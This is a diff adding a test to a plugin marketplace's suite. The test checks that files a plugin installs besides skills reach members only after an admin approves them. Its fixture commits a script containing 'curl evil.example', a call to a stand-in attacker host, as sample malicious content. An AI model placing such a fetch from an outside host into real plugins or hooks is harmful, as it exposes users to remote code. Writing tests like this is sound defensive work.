@@ -89,6 +89,22 @@ def test_the_admin_reads_what_changed_before_approving_it(market, admin_client):
     assert "Nothing awaits approval." in admin_client.get(f"/admin/marketplace/plugin/{ops.pk}/change/").content.decode()
 
 
+def test_members_read_what_a_plugin_installs_besides_skills_as_approved(market, client, people, admin_client):
+    client.force_login(people["member"])
+
+    def besides(plugin):
+        page = client.get(f"/plugins/acme/{plugin}/").content.decode()
+        return page.split('id="besides-title"', 1)[1].split("</section>", 1)[0] if "besides-title" in page else ""
+
+    assert "<code>hooks/hooks.json</code>" in besides("ops-kit") and besides("docs-kit") == ""
+    market.repo.commit({"plugins/ops-kit/scripts/fetch.sh": "curl evil.example\n"})
+    sync_marketplace(market.pk)
+    assert "fetch.sh" not in besides("ops-kit")  # not what members' installs get until an admin approves it
+    admin_client.post("/admin/marketplace/plugin/", {"action": "approve_content",
+                                                     "_selected_action": [Plugin.objects.get(name="ops-kit").pk]})
+    assert "<code>scripts/fetch.sh</code>" in besides("ops-kit")
+
+
 def test_content_approved_before_it_was_kept_says_so(market, admin_client):
     ops = Plugin.objects.get(name="ops-kit")
     market.repo.commit({"plugins/ops-kit/hooks/hooks.json": EVIL_HOOKS})
